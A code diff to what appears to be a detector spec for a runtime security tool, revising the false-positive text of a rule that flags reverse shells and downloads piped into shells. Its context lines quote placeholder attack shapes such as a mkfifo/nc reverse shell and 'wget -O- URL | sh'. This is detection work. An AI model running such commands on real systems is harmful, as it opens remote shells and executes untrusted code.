@@ -80,10 +80,11 @@ SPEC = Detector(
     "s_client or by a process holding a connection: the FIFO or pipe reverse shell "
     "(mkfifo /tmp/f; nc H P </tmp/f | sh >/tmp/f) and `nc H P | sh`; a downloader piped into a "
     "shell (wget -O- URL | sh) at high severity (T1105).",
-    false_positives="Allowed by default: nc/wget used without a shell reading their output, and a "
-    "shell reading a terminal or a script. Installers that pipe a download into a shell at run "
-    "time (curl URL | sh in an entrypoint) are reported at high severity: build them into the "
-    "image, or disable RG-0014 for that image.",
+    false_positives="Allowed by default: nc/wget/curl used without a shell reading their output, a "
+    "shell reading a terminal, a file or a script, and processes exec'd by the same parent more than "
+    "detectors.pipe_pair_seconds apart. Learned: nothing (an `always` rule). Tuned: "
+    "detectors.network_relays, detectors.pipe_pair_seconds; an image that pipes a download into a "
+    "shell at run time (curl URL | sh in an entrypoint, high) should build it in, or disable RG-0014.",
     evaluate=evaluate,
     # Learned exec pairs (sh>nc, sh>rm) say nothing about this shape: never lowered by them.
     always=True,
